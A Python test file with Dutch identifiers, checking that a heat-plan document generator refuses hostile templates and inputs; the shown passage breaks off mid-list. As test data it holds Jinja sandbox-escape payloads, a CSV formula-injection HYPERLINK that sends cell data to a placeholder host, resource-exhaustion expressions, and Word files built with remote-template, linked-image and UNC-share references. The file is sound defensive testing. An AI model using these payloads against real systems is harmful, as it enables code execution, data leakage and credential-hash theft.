"""Safe and whole: the template sandbox, injections, and a located answer for every template
problem. Each case was reproduced as an attacker or a careless user would do it; none may
write a file, read one, run a formula in Excel, or end in the generic message."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from generator import bewaking, zandbak
from generator.cli import hoofd
from generator.paden import standaard_sjablonen

from .conftest import eerst_snel, na_de_startbijeenkomst
from .test_notitie import _sjabloon


def bouw(*args):
    return CliRunner().invoke(hoofd, ["bouw", *map(str, args)], catch_exceptions=False)


def _toml_kopie(map_: Path, naam: str, vervang: tuple[str, str] | None = None, tekst: str | None = None) -> Path:
    map_.mkdir(exist_ok=True)
    inhoud = tekst if tekst is not None else (standaard_sjablonen() / naam).read_text(encoding="utf-8")
    if vervang:
        assert vervang[0] in inhoud
        inhoud = inhoud.replace(*vervang)
    (map_ / naam).write_text(inhoud, encoding="utf-8")
    return map_


# -- 1. the sandbox: templates see data only ------------------------------------------------
ONTSNAPPINGEN = [
    "{{ hittekaart.tpl.write_xml('/tmp/hitteplan-ontsnapt') }}",
    "{{ hittekaart.tpl.save('/tmp/hitteplan-ontsnapt.docx') }}",
    "{{ hittekaart['tpl'].get_file_crc('/etc/passwd') }}",
    "{{ (hittekaart|attr('tpl')).docx.part.package }}",
    "{{ wb.__class__.__mro__ }}",
    "{{ wb|attr('__class__') }}",
    "{{ wb['__class__'] }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ tijdvak.__globals__ }}",
    "{{ tijdvak.__code__ }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ (wb.stakeholders|first).__reduce__() }}",
    "{{ wb.plekken.velden.__class__ }}",
    "{% set x = wb.stakeholders|list %}{{ x.append(1) }}",
    "{{ notitie.datum.__class__ }}",
]


@pytest.mark.parametrize("alinea", eerst_snel(ONTSNAPPINGEN, houd=4))
def test_sjabloon_kan_niet_uit_de_zandbak(voorbeeld, tmp_path, alinea):
    """A template under --sjablonen can only read the workbook's data: no file written, read
    or copied, by any route (dot, subscript, |attr), and a sentence naming the template."""
    eigen = _sjabloon(tmp_path / "kwaad", "{%p if hittekaart %}", "{{ hittekaart }}", "{%p endif %}", alinea)
    uit = tmp_path / "uit"
    resultaat = bouw(voorbeeld, "-o", uit, "--sjablonen", eigen)
    assert resultaat.exit_code == 1, resultaat.output
    laatste = resultaat.output.strip().splitlines()[-1]
    assert laatste.startswith("Sjabloon 'bestuurlijke-notitie.docx': ")
    assert "onverwachts" not in resultaat.output and "Traceback" not in resultaat.output
    assert not Path("/tmp/hitteplan-ontsnapt").exists() and not Path("/tmp/hitteplan-ontsnapt.docx").exists()
    assert not uit.exists()


def test_afbeelding_in_het_sjabloon_is_een_tekst_en_wordt_een_afbeelding(voorbeeld, tmp_path):
    """A template gets a plain text for a picture, never an object; the picture lands where
    the text stood, with its alt text."""
    eigen = _sjabloon(tmp_path / "eigen", "Kaart:", "{{ hittekaart }}", "Soort: {{ hittekaart is string }}")
    uit = tmp_path / "uit"
    assert bouw(voorbeeld, "-o", uit, "--sjablonen", eigen).exit_code == 0
    doc = docx.Document(uit / "bestuurlijke-notitie.docx")
    assert [p.text for p in doc.paragraphs] == ["Kaart:", "", "Soort: True"]
    assert doc.paragraphs[1]._p.xpath(".//pic:pic") and len(doc.inline_shapes) == 1
    assert doc.inline_shapes[0]._inline.docPr.get("descr").startswith("Hittekaart van Heuvelmonde")


def test_zandbak_geldt_ook_voor_teksten(voorbeeld, tmp_path):
    eigen = _toml_kopie(
        tmp_path / "eigen",
        "presentatie.toml",
        ('titel = "Welkom: waarom we hier vandaag zijn"', 'titel = "{{ wb.__class__.__init__.__globals__ }}"'),
    )
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1] == (
        "Sjabloon 'presentatie.toml', tekst 'welkom.titel': een tag probeert iets wat in een sjabloon niet mag."
    )


# -- 3. CSV formula injection and e-mail addresses ------------------------------------------
def _als_tekst(wb):
    """Cells that begin with '=' as text, as Excel keeps them after a leading apostrophe (openpyxl
    would otherwise write them as formulas)."""
    for rij in wb["Stakeholders"].iter_rows():
        for cel in rij:
            if isinstance(cel.value, str) and cel.value.startswith("="):
                cel.data_type = "s"


def test_csv_voert_geen_formules_uit(maak_werkboek, gegevens, tmp_path):
    na_de_startbijeenkomst(gegevens)  # invitations for the dialogue go to everyone
    kwaad = '=HYPERLINK("http://kwaad.example/?"&A1;"klik")'
    gegevens["Stakeholders"][-1]["Organisatie"] = kwaad  # no other sheet refers to it
    gegevens["Stakeholders"][6]["Contactpersoon"] = "+31 kwaad"
    gegevens["Stakeholders"][7]["Contactpersoon"] = "@SUM(1+1)"
    gegevens["Stakeholders"][8]["Contactpersoon"] = "-2+3"
    uit = tmp_path / "uit"
    assert bouw(maak_werkboek(gegevens, wijzig=_als_tekst), "-o", uit).exit_code == 0
    tekst = (uit / "uitnodigingen" / "uitnodigingen.csv").read_bytes().decode("utf-8-sig")
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert all(not veld.startswith(("=", "+", "-", "@", "\t", "\r")) for rij in rijen for veld in rij)
    velden = {veld for rij in rijen for veld in rij}
    assert f"'{kwaad}" in velden and "'+31 kwaad" in velden and "'@SUM(1+1)" in velden and "'-2+3" in velden


@pytest.mark.parametrize(
    "adres", ["=1+1@evil.nl", "+31@x.nl", "jan..jansen@heuvelmonde.nl", "jan@heuvelmonde", "Jan <jan@heuvelmonde.nl>"]
)
def test_e_mailadressen_echt_gecontroleerd(maak_werkboek, gegevens, adres):
    gegevens["Stakeholders"][0]["E-mail"] = adres
    uit = CliRunner().invoke(
        hoofd, ["controleer", str(maak_werkboek(gegevens, wijzig=_als_tekst))], catch_exceptions=False
    )
    assert uit.exit_code == 1
    assert (
        f"Fout: Blad 'Stakeholders', cel E2: '{adres}' is geen geldig e-mailadres; verwacht bijvoorbeeld "
        "naam@gemeente.nl"
    ) in uit.output.splitlines()


# -- 10. every template problem gets its own sentence ---------------------------------------
SJABLOONFOUTEN = [
    (
        "brieven.toml",
        ('onderwerp = "Uitnodiging:', 'ondewerp = "Uitnodiging:'),
        "Sjabloon 'brieven.toml': de tekst 'onderwerp' ontbreekt.",
    ),
    (
        "brieven.toml",
        ("dagen_vooraf = 21", 'dagen_vooraf = "drie weken"'),
        "Sjabloon 'brieven.toml': 'dagen_vooraf' moet een getal zijn.",
    ),
    (
        "presentatie.toml",
        ('titel = "Welkom: waarom we hier vandaag zijn"', "titel = 42"),
        "Sjabloon 'presentatie.toml': 'welkom.titel' moet een tekst zijn.",
    ),
    (
        "presentatie.toml",
        ('koppen = ["Tijd", "Onderdeel", "Werkvorm", "Wie"]', 'koppen = "Tijd"'),
        "Sjabloon 'presentatie.toml': 'programma.koppen' moet een lijst met teksten zijn.",
    ),
    (
        "afbeeldingen.toml",
        ("breedte_mm = 150", 'breedte_mm = "groot"'),
        "Sjabloon 'afbeeldingen.toml': 'hittekaart.breedte_mm' moet een getal zijn.",
    ),
    (
        "afbeeldingen.toml",
        ("breedte_mm = 150", "breedte_mm = 100000"),
        "Sjabloon 'afbeeldingen.toml': 'hittekaart.breedte_mm' moet tussen 5 en 400 (millimeter) liggen.",
    ),
    (
        "presentatie.toml",
        ('titel = "Programma"', 'titel = "{{ 1/0 }}"'),
        "Sjabloon 'presentatie.toml', tekst 'programma.titel': een berekening deelt door nul.",
    ),
    (
        "uitnodiging.txt",
        ("Met vriendelijke groet,", "{% include 'geheim.txt' %}"),
        "Sjabloon 'uitnodiging.txt', de e-mailtekst: {% include %}, {% import %} en {% extends %} kunnen niet: zet "
        "de tekst zelf in het sjabloon.",
    ),
    (
        "voortgang.toml",
        ('naam = "na de dialoog doelen en maatregelen"', 'naam = ["na de dialoog"]'),
        "Sjabloon 'voortgang.toml': 'moment.na_dialoog.naam' moet een tekst zijn.",
    ),
]


@pytest.mark.parametrize(("naam", "vervang", "melding"), eerst_snel(SJABLOONFOUTEN, houd=3))
def test_sjabloonfout_met_eigen_zin(voorbeeld, tmp_path, naam, vervang, melding):
    eigen = _toml_kopie(tmp_path / "eigen", naam, vervang)
    uit = tmp_path / "uit"
    resultaat = bouw(voorbeeld, "-o", uit, "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)
    assert not uit.exists()


def test_sjabloon_in_latin_1(voorbeeld, tmp_path):
    eigen = tmp_path / "eigen"
    eigen.mkdir()
    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(
        encoding="utf-8"
    ) + "Tot ziens op de bijeenkomst, één keer per jaar."
    (eigen / "uitnodiging.txt").write_bytes(tekst.encode("latin-1", errors="replace"))
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'uitnodiging.txt' is geen UTF-8-tekst; sla het op met de codering UTF-8 (in Kladblok: Opslaan als "
        "> Codering: UTF-8).",
    )


def test_rekenfout_in_een_word_sjabloon(voorbeeld, tmp_path):
    eigen = _sjabloon(tmp_path / "eigen", "Aantal: {{ 1 / 0 }}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'bestuurlijke-notitie.docx': een berekening deelt door nul in de alinea 'Aantal: {{ 1 / 0 }}'.",
    )


# -- 11. templates without limits ------------------------------------------------------------
@pytest.mark.traag  # runs until the time limit
def test_sjabloon_dat_niet_ophoudt(voorbeeld, tmp_path, monkeypatch):
    """Nested range(90000) loops would run for many minutes: stopped at the time limit, with
    a sentence naming the template."""

    monkeypatch.setattr(bewaking, "MAX_SECONDEN", 1)
    eigen = _sjabloon(
        tmp_path / "eigen", "{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}{% endfor %}klaar"
    )
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'bestuurlijke-notitie.docx': het invullen duurt langer dan 1 seconden; staat er een lus in die "
        "niet ophoudt, of een heel grote {% for %}?",
    )


@pytest.mark.parametrize("alinea", ["{{ 'x' * 100000000 }}", "{{ 'x'.ljust(100000000) }}", "{{ 10 ** 100000000 }}"])
def test_sjabloon_dat_te_veel_maakt(voorbeeld, tmp_path, alinea):
    eigen = _sjabloon(tmp_path / "eigen", alinea)
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1].startswith("Sjabloon 'bestuurlijke-notitie.docx': ")


# -- found by a hostile review of the fixes above ---------------------------------------------
@pytest.mark.traag  # runs until the time limit
def test_teksten_hebben_ook_een_tijdslimiet(voorbeeld, tmp_path, monkeypatch):

    monkeypatch.setattr(bewaking, "MAX_SECONDEN", 1)
    eigen = _toml_kopie(
        tmp_path / "eigen",
        "presentatie.toml",
        (
            'titel = "Programma"',
            'titel = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}Programma"',
        ),
    )
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'presentatie.toml': het invullen duurt langer dan 1 seconden; staat er een lus in die niet "
        "ophoudt, of een heel grote {% for %}?",
    )


@pytest.mark.parametrize(
    "alinea",
    [
        "{{ ((((9**64)**64)**64)**64)**64 > 1 }}",
        "{{ ('x'|center(3000000000))|length }}",
        "{{ ('x'|indent(3000000000))|length }}",
        "{{ '{:>1000000000}'.format(1) }}",
        "{{ '%01000000000d'|format(1) }}",
        "{% set ns = namespace(t='x' * 15000000) %}{{ (ns.t + ns.t)|length }}",
    ],
)
def test_sjabloon_kan_geen_reusachtige_tekst_maken(voorbeeld, tmp_path, alinea):
    eigen = _sjabloon(tmp_path / "eigen", alinea)
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    laatste = resultaat.output.strip().splitlines()[-1]
    assert laatste.startswith("Sjabloon 'bestuurlijke-notitie.docx': "), laatste
    assert "onverwachts" not in resultaat.output


def test_word_document_dat_uitgepakt_te_groot_wordt(voorbeeld, tmp_path, monkeypatch):
    """A few bytes of docx that unpack to a huge document: refused by its unpacked size."""
    from generator import sjabloon

    monkeypatch.setattr(sjabloon, "MAX_UITGEPAKT", 2_000_000)
    eigen = _sjabloon(tmp_path / "eigen", "{%p for i in range(30) %}", "{{ 'x' * 100000 }}", "{%p endfor %}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'bestuurlijke-notitie.docx': het ingevulde document wordt groter dan 2 MB; staat er een lus "
        "in die te veel herhaalt?",
    )


def test_fout_in_de_kopregel_wordt_daar_genoemd(voorbeeld, tmp_path):
    eigen = _sjabloon(tmp_path / "eigen", "Onderwerp")
    doc = docx.Document(eigen / "bestuurlijke-notitie.docx")
    doc.sections[0].header.paragraphs[0].text = "{{ onbekend_in_kop }}"
    doc.save(eigen / "bestuurlijke-notitie.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'bestuurlijke-notitie.docx': onbekende naam 'onbekend_in_kop' in de kop- of voettekst.",
    )
    doc = docx.Document(eigen / "bestuurlijke-notitie.docx")
    doc.sections[0].header.paragraphs[0].text = ""
    doc.core_properties.title = "{{ 1/0 }}"
    doc.save(eigen / "bestuurlijke-notitie.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.output.strip().splitlines()[-1] == (
        "Sjabloon 'bestuurlijke-notitie.docx': een berekening deelt door nul in de documenteigenschappen (titel, "
        "onderwerp)."
    )


@pytest.mark.parametrize(
    ("vervang", "melding"),
    [
        (
            ('bijeenkomst = "{{ soort }}"', 'bijeenkomst = "{{ soort.__class__.__mro__ }}"'),
            "Sjabloon 'voortgang.toml', tekst 'overzicht.bijeenkomst': een tag probeert iets wat in een "
            "sjabloon niet mag.",
        ),
        (
            ('bijeenkomst = "{{ soort }}"', 'bijeenkomst = "Bijeenkomst {{"'),
            "Sjabloon 'voortgang.toml', tekst 'overzicht.bijeenkomst': een tag is onjuist geschreven (sluit "
            "elke {{ af met }} "
            "en elke {% met %}).",
        ),
        (
            ('blad = "Overzicht"', 'blad = "Over/zicht"'),
            "Sjabloon 'voortgang.toml': 'overzicht.blad' is geen geldige naam voor een Excel-blad (hoogstens "
            "31 tekens, "
            "zonder : \\ / ? * [ ]).",
        ),
    ],
)
def test_koppen_van_het_overzicht_in_de_zandbak(tmp_path, maak_werkboek, vervang, melding):
    import shutil

    map_ = tmp_path / "regio"
    map_.mkdir()
    shutil.move(maak_werkboek(naam="a.xlsx"), map_ / "a.xlsx")
    eigen = _toml_kopie(tmp_path / "eigen", "voortgang.toml", vervang)
    resultaat = bouw(map_, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)
    assert not (tmp_path / "uit").exists()  # refused before any work


def test_stuurtekens_in_het_overzicht(tmp_path, maak_werkboek):
    import shutil

    import openpyxl

    map_ = tmp_path / "regio"
    map_.mkdir()
    shutil.move(maak_werkboek(naam="a.xlsx"), map_ / "a\x01b.xlsx")
    shutil.copy(tmp_path / "hittekaart-heuvelmonde.png", map_)
    eigen = _toml_kopie(tmp_path / "eigen", "voortgang.toml", ('werkboek = "Werkboek"', 'werkboek = "Werk\\u0007boek"'))
    resultaat = bouw(map_, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 0, resultaat.output
    ws = openpyxl.load_workbook(tmp_path / "uit" / "overzicht-regio.xlsx").active
    assert (ws["A1"].value, ws["A2"].value) == ("Werkboek", "ab.xlsx")


# -- a template cannot load another one, by any name ----------------------------------------
def _naam_van(bron: str) -> str:
    """The name the environment gives a compiled source (what an attacker can work out)."""
    import hashlib

    from generator.zandbak import omgeving

    env = omgeving(autoescape=False, regels_wegknippen=False)
    return hashlib.sha256(repr(env._sleutel(bron)).encode("utf-8", "surrogatepass")).hexdigest()


@pytest.mark.parametrize(
    "tag",
    eerst_snel(
        [
            "{% include '{naam}' %}",
            "{% include '{naam}' ignore missing %}",
            "{% import '{naam}' as x %}",
            "{% extends '{naam}' %}",
            "{% include ['{naam}', 'x'] %}",
            "{% include 'bestaat-niet' ignore missing %}",
        ],
        houd=2,
    ),
)
def test_sjabloon_laadt_geen_ander_sjabloon(voorbeeld, tmp_path, tag):
    """{% include %}, {% import %} and {% extends %} are refused whatever the name, also the
    name of a text compiled earlier in the same run (a checksum anyone can work out), also
    with 'ignore missing': one sentence, exit 1, nothing written."""
    onderwerp = "GELEKT {{ s.organisatie }}"
    eigen = _toml_kopie(
        tmp_path / "kwaad",
        "brieven.toml",
        (
            'onderwerp = "Uitnodiging: {{ b.naam|klein }} {{ alg.titel }}, {{ b.datum|datum_dag }}"',
            f'onderwerp = "{onderwerp}"',
        ),
    )
    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(encoding="utf-8")
    (eigen / "uitnodiging.txt").write_text(
        f"A {tag.replace('{naam}', _naam_van(onderwerp))} B\n{tekst}", encoding="utf-8"
    )
    uit = tmp_path / "uit"
    resultaat = bouw(na_start_werkboek(tmp_path), "-o", uit, "--sjablonen", eigen)
    assert resultaat.exit_code == 1, resultaat.output
    assert resultaat.output.strip() == (
        "Sjabloon 'uitnodiging.txt', de e-mailtekst: {% include %}, {% import %} en "
        "{% extends %} kunnen niet: zet de tekst zelf in het sjabloon."
    )
    assert not uit.exists()


def na_start_werkboek(map_: Path) -> Path:
    import copy

    from generator.voorbeeld import GEGEVENS

    from .conftest import schrijf_werkboek

    return schrijf_werkboek(map_, na_de_startbijeenkomst(copy.deepcopy(GEGEVENS)))


@pytest.mark.traag  # compiles every template anew, twice
def test_beschadigde_cache_wordt_opnieuw_gemaakt(voorbeeld, tmp_path, monkeypatch):
    """A file of the template cache that cannot be read back (cut short after its header,
    random bytes) is compiled again: the build succeeds and makes the same documents."""
    import os

    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    zandbak.omgeving.cache_clear()
    try:
        assert bouw(voorbeeld, "-o", tmp_path / "a").exit_code == 0
        bestanden = list((tmp_path / "tmp").rglob("hitteplan-*.cache"))
        assert len(bestanden) > 20
        for i, bestand in enumerate(bestanden):
            kop = bestand.read_bytes()[:15]
            bestand.write_bytes(kop + (os.urandom(40) if i % 2 else b"\x80\x04kapot"))
        zandbak.omgeving.cache_clear()
        resultaat = bouw(voorbeeld, "-o", tmp_path / "b")
        assert resultaat.exit_code == 0, resultaat.output
        for naam in ("bestuurlijke-notitie.docx", "canvas-fase-2.docx", "presentatie-startbijeenkomst.pptx"):
            assert (tmp_path / "a" / naam).read_bytes() == (tmp_path / "b" / naam).read_bytes()
    finally:
        zandbak.omgeving.cache_clear()


def test_alle_brieven_samen_een_tijdslimiet(monkeypatch):
    """Every letter of a run shares one budget: a template that takes nearly the limit of one
    document for each letter is stopped once the series has used the budget, not after the
    limit times the number of letters."""
    import time

    from generator.fouten import SjabloonFout

    monkeypatch.setattr(bewaking, "MAX_SECONDEN", 0.5)
    monkeypatch.setattr(bewaking, "PER_DOCUMENT", 0.1)
    budget, einde = bewaking.tijdbudget(4)
    assert budget == pytest.approx(0.9)
    begonnen = 0
    with pytest.raises(SjabloonFout, match="het invullen duurt langer dan 0.9 seconden"):
        for _ in range(10):  # each alone within the limit of one document (0.5 s)
            with bewaking.binnen_de_tijd("uitnodiging.txt", budget, einde):
                begonnen += 1
                time.sleep(0.3)
    assert begonnen <= 4  # stopped within the series' budget (0.9 s), not after ten letters


def test_tijdslimiet_ook_als_ctrl_c_genegeerd_wordt(monkeypatch):
    """A launcher that ignores Ctrl+C (SIGINT) for its children: the watchdog still stops a
    template, and the process's own setting is restored."""
    import signal
    import time

    from generator.fouten import SjabloonFout

    vorige = signal.signal(signal.SIGINT, signal.SIG_IGN)
    try:
        begin = time.monotonic()
        with pytest.raises(SjabloonFout), bewaking.binnen_de_tijd("canvas-fase-2.docx", 0.5):
            while time.monotonic() - begin < 5:  # a template's loop: Python code, no system call
                pass  # (had the watchdog not stopped it, the block would end without an error)
        assert signal.getsignal(signal.SIGINT) is signal.SIG_IGN
    finally:
        signal.signal(signal.SIGINT, vorige)


def test_geen_reusachtig_getal_door_vermenigvuldigen(voorbeeld, tmp_path):
    """Squaring a number again and again is one multiplication no watchdog can stop: refused
    when the result would pass 100,000 bits."""
    eigen = _sjabloon(
        tmp_path / "eigen",
        "{% set ns = namespace(x=10 ** 60) %}{% for i in range(40) %}"
        "{% set ns.x = ns.x * ns.x %}{% endfor %}{{ ns.x|string|length }}",
    )
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert (
        resultaat.output.strip()
        .splitlines()[-1]
        .startswith("Sjabloon 'bestuurlijke-notitie.docx': een getal dat te groot wordt")
    )
    assert not (tmp_path / "uit").exists()


def test_canvas_zonder_tabel(voorbeeld, tmp_path):
    """A canvas template without its table (or whose filled-in text lost the page settings)
    gets a sentence, not the generic message."""
    eigen = tmp_path / "eigen"
    eigen.mkdir()
    doc = docx.Document()
    doc.add_paragraph("Canvas van {{ alg.gemeente }}")
    doc.save(eigen / "canvas-fase-2.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert (
        resultaat.output.strip()
        .splitlines()[-1]
        .startswith("Sjabloon 'canvas-fase-2.docx': het canvas moet een tabel hebben")
    )
    assert not (tmp_path / "uit").exists()


# -- 12. templates that point outside themselves (issue 24, 1) ---------------------------------
class Teller:
    """A stand-in web server on 127.0.0.1 that counts the requests it gets (a remote template,
    a linked picture): the address every hostile template below points at."""

    def __init__(self):
        import http.server
        import threading

        verzoeken = self.verzoeken = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (the standard library's name)
                verzoeken.append(self.path)
                self.send_response(404)
                self.end_headers()

            do_HEAD = do_OPTIONS = do_PROPFIND = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.adres = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def sluit(self):
        self.server.shutdown()
        self.server.server_close()


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_GEKOPPELDE_AFBEELDING = (
    f'<w:r xmlns:w="{_W}" xmlns:r="{_R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:drawing><wp:inline>'
    '<wp:extent cx="900000" cy="900000"/><wp:docPr id="77" name="gekoppeld"/><a:graphic>'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
    '<pic:nvPicPr><pic:cNvPr id="77" name="gekoppeld"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r>"
)


def kwaad_word(pad: Path, adres: str, soorten=("sjabloon", "afbeelding", "veld", "unc"), tekst="Gewone tekst") -> Path:
    """A Word document that points outside itself in the ways Word and LibreOffice follow:
    an attached template on a web server, a linked (not embedded) picture, an INCLUDEPICTURE
    field, and a hyperlink to a network share."""
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml

    pad.parent.mkdir(parents=True, exist_ok=True)
    doc = docx.Document()
    alinea = doc.add_paragraph(tekst)
    if "sjabloon" in soorten:
        instellingen = doc.part.part_related_by(RT.SETTINGS)
        rid = instellingen.relate_to(
            f"{adres}/sjabloon.dotm",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
            is_external=True,
        )
        doc.settings.element.insert(0, parse_xml(f'<w:attachedTemplate xmlns:w="{_W}" xmlns:r="{_R}" r:id="{rid}"/>'))
    if "afbeelding" in soorten:
        rid = doc.part.relate_to(f"{adres}/gekoppeld.png", RT.IMAGE, is_external=True)
        alinea._p.append(parse_xml(_GEKOPPELDE_AFBEELDING.replace("{rid}", rid)))  # noqa: SLF001 (python-docx's element)
    if "veld" in soorten:
        doc.add_paragraph()._p.append(
            parse_xml(  # noqa: SLF001
                f'<w:fldSimple xmlns:w="{_W}" w:instr=\'INCLUDEPICTURE "{adres}/veld.png" \\d\'><w:r><w:t>x</w:t></w:r>'
                "</w:fldSimple>"
            )
        )
    if "unc" in soorten:
        rid = doc.part.relate_to("file://///127.0.0.1/deel/lek.docx", RT.HYPERLINK, is_external=True)
        doc.add_paragraph()._p.append(
            parse_xml(  # noqa: SLF001
                f'<w:hyperlink xmlns:w="{_W}" xmlns:r="{_R}" r:id="{rid}">'
                "<w:r><w:t>netwerkmap</w:t></w:r></w:hyperlink>"
            )
        )
    if "web" in soorten:  # a plain link to a web page: allowed
        rid = doc.part.relate_to("https://www.rivm.nl/hitte", RT.HYPERLINK, is_external=True)
        doc.add_paragraph()._p.append(
            parse_xml(  # noqa: SLF001
                f'<w:hyperlink xmlns:w="{_W}" xmlns:r="{_R}" r:id="{rid}"><w:r><w:t>RIVM</w:t></w:r></w:hyperlink>'
            )
        )
    doc.save(pad)
    return pad


@pytest.mark.parametrize(
    ("soort", "deel", "wat"),
    [
        ("sjabloon", "de instellingen (word/settings.xml)", "een sjabloon van een andere plek buiten het bestand"),
        ("afbeelding", "de tekst (word/document.xml)", "een gekoppelde afbeelding buiten het bestand"),
        ("veld", "de tekst (word/document.xml)", "een veld INCLUDEPICTURE dat iets van buiten het bestand haalt"),
        (
            "unc",
            "de tekst (word/document.xml)",
            "een koppeling buiten het bestand ('file://///127.0.0.1/deel/lek.docx')",
        ),
    ],
)
def test_word_sjabloon_dat_naar_buiten_wijst(voorbeeld, tmp_path, soort, deel, wat):
    """Each of the four routes by which a Word template made every document fetch (or leak a
    password hash) is refused, naming the template and the part; nothing is fetched."""
    teller = Teller()
    try:
        eigen = tmp_path / "eigen"
        kwaad_word(eigen / "bestuurlijke-notitie.docx", teller.adres, (soort,))
        resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    finally:
        teller.sluit()
    assert resultaat.exit_code == 1
    laatste = resultaat.output.strip().splitlines()[-1]
    assert laatste.startswith(f"Sjabloon 'bestuurlijke-notitie.docx' verwijst in {deel} naar {wat}"), laatste
    assert not (tmp_path / "uit").exists() or not any((tmp_path / "uit").rglob("*.docx"))
    assert teller.verzoeken == []


def _buiten(delen: dict[str, bytes | str]) -> tuple[str, str] | None:
    """What :func:`generator.pakket.buiten_het_pakket` finds in a package of these parts."""
    import zipfile

    from generator.pakket import buiten_het_pakket

    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as zf:
        for naam, inhoud in delen.items():
            zf.writestr(naam, inhoud)
    with zipfile.ZipFile(data) as zf:
        return buiten_het_pakket(zf)


def _document(xml: str) -> str:
    return f'<w:document xmlns:w="{_W}"><w:body><w:p>{xml}</w:p></w:body></w:document>'


@pytest.mark.parametrize(
    ("deel", "xml", "gevonden"),
    [
        (
            "word/header1.xml",
            b'<w:pict xmlns:w="w" xmlns:v="v" xmlns:o="o"><v:imagedata o:href="file:///C:/lek.png"/></w:pict>',
            "file:///C:/lek.png",
        ),
        (
            "word/media/a.svg",
            b"<svg xmlns:xlink='x'><image xlink:HREF='\\\\server\\deel\\a.png'/></svg>",
            "\\\\server\\deel\\a.png",
        ),
        (
            "ppt/slides/slide1.xml",
            b'<p:sld xmlns:p="p"><x Src = "http://127.0.0.1/x.png"/></p:sld>',
            "http://127.0.0.1/x.png",
        ),
        (
            "word/document.xml",
            b'<w:p xmlns:w="w"><a href="#binnen"/><b data-src="http://x/"/><w:t>src href</w:t></w:p>',
            None,
        ),
    ],
    ids=["vml", "svg-hoofdletters", "pptx", "binnen-of-geen-attribuut"],
)
def test_adres_in_een_attribuut(deel, xml, gevonden):
    """href and src attributes (with or without a prefix, in any case) that point outside the
    package are found in every kind of part; a link inside it, and a longer name that ends in
    src, are not."""
    assert _buiten({"[Content_Types].xml": b"<Types/>", deel: xml}) == (
        None if gevonden is None else (deel, f"iets buiten het bestand ('{gevonden}')")
    )


_VELD = "een veld INCLUDEPICTURE dat iets van buiten het bestand haalt"


@pytest.mark.parametrize(
    ("deel", "xml", "wat"),
    [
        ("word/document.xml", f'<w:p xmlns:w="{_W}"><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>', None),
